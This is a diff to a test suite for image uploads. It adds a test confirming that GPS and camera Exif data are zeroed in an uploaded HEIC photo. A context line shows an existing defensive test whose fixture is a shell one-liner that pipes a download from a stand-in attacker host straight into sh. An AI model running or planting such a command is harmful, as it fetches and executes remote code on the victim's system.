@@ -83,6 +83,25 @@ describe('image uploads', () => {
     expect(thumb.body.error.code).toBe('NOT_FOUND');
   });
 
+  it('blanks the Exif (GPS included) of a HEIC photo it cannot re-encode, keeping the picture intact', async () => {
+    const heic = await fixture('photo-gps.heic');
+    // The fixture really carries camera and GPS Exif: heif-enc copied it from a JPEG written by sharp.
+    expect(heic.includes(Buffer.from('GPSCam'))).toBe(true);
+    const res = await uploadFile(app, user.accessToken, 'image', heic, 'IMG_0001.HEIC');
+    expect(res.status).toBe(201);
+    expect(res.body.data).toMatchObject({ mimeType: 'image/heic', width: 64, height: 48, size: heic.length });
+
+    const stored = (await fetchBytes(res.body.data.url)).body as Buffer;
+    expect(stored.length).toBe(heic.length);
+    expect(stored.includes(Buffer.from('GPSCam'))).toBe(false);
+    expect(stored.includes(Buffer.from('TestPhone'))).toBe(false);
+    // Only the metadata item changed: the container still parses with the same picture size.
+    const after = await sharp(stored).metadata();
+    expect(after).toMatchObject({ format: 'heif', width: 64, height: 48 });
+    // The Exif item is still listed, but every byte of it is zero.
+    expect(after.exif?.some((byte) => byte !== 0) ?? false).toBe(false);
+  });
+
   it('refuses a script renamed to .jpg and sent as image/jpeg, by its content (415)', async () => {
     const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
     const res = await uploadFile(app, user.accessToken, 'image', script, 'holiday.jpg', 'image/jpeg');
